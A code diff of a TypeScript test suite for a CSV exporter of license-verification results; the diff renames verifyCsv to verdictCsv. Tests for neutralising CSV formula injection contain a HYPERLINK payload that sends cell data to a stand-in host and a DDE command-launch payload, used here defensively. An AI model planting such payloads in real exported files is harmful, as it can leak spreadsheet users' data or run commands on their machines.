@@ -1,6 +1,6 @@
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
-import { CSV_COLUMNS, type CsvRecord, verifyCsv } from "./verify-csv.ts";
+import { CSV_COLUMNS, type CsvRecord, verdictCsv } from "./verdict-csv.ts";
 
 const HEADER =
   "row,state,license,matched_license,verdict,reason,status,business,owner,expires,source,as_of,checked_at,link";
@@ -17,15 +17,15 @@ function cells(csv: string): string[][] {
 
 describe("the result as a CSV", () => {
   it("starts with a byte-order mark and the header row, and ends every line with CRLF", () => {
-    const csv = verifyCsv([record({ row: "1", state: "ny", license: "1268007", verdict: "valid" })]);
+    const csv = verdictCsv([record({ row: "1", state: "ny", license: "1268007", verdict: "valid" })]);
     expect(csv.startsWith(`\uFEFF${HEADER}\r\n`)).toBe(true);
     expect(csv.endsWith("\r\n")).toBe(true);
     expect(csv.replaceAll("\r\n", "").includes("\n")).toBe(false);
-    expect(verifyCsv([])).toBe(`\uFEFF${HEADER}\r\n`);
+    expect(verdictCsv([])).toBe(`\uFEFF${HEADER}\r\n`);
   });
 
   it("writes one line per record, in the order given, each cell under its column", () => {
-    const csv = verifyCsv([
+    const csv = verdictCsv([
       record({ row: "2", state: "nj", license: "0101-33-5-3", matched_license: "0101-33-005-003", verdict: "check" }),
       record({
         row: "1",
@@ -46,7 +46,7 @@ describe("the result as a CSV", () => {
   it("quotes cells holding commas, quotes or line breaks, and they read back whole", () => {
     const business = 'JOE\'S "BIG" TAVERN, LLC';
     const reason = "Did you mean 0101-33-005-003?\nnumber belongs to WHITE HORSE";
-    const csv = verifyCsv([record({ row: "1", business, reason })]);
+    const csv = verdictCsv([record({ row: "1", business, reason })]);
     expect(csv).toContain(`"JOE'S ""BIG"" TAVERN, LLC"`);
     expect(csv).toContain(`"Did you mean 0101-33-005-003?\nnumber belongs to WHITE HORSE"`);
     const [, line] = cells(csv);
@@ -58,18 +58,18 @@ describe("the result as a CSV", () => {
   it.each(["=", "+", "-", "@", "\t", "\r"])("neutralises a cell starting with %j, in any column", (start) => {
     const payload = `${start}HYPERLINK("https://evil.test/?"&A1,"Open")`;
     const records = CSV_COLUMNS.map((column) => record({ [column]: payload }));
-    for (const [i, line] of cells(verifyCsv(records)).slice(1).entries()) {
+    for (const [i, line] of cells(verdictCsv(records)).slice(1).entries()) {
       expect(line[i]).toBe(`'${payload}`);
     }
   });
 
   it("neutralises a formula whose cell goes on past a line break", () => {
-    const [, line] = cells(verifyCsv([record({ business: "=cmd|' /C calc'!A0\nWHITE HORSE" })]));
+    const [, line] = cells(verdictCsv([record({ business: "=cmd|' /C calc'!A0\nWHITE HORSE" })]));
     expect(line?.[CSV_COLUMNS.indexOf("business")]).toBe("'=cmd|' /C calc'!A0\nWHITE HORSE");
   });
 
   it("leaves a license number as given: leading zeros, dashes inside, no quote added", () => {
-    const csv = verifyCsv([
+    const csv = verdictCsv([
       record({ license: "0012345", matched_license: "0101-33-005-003", business: "A-1 LIQUORS" }),
     ]);
     const [, line] = cells(csv);
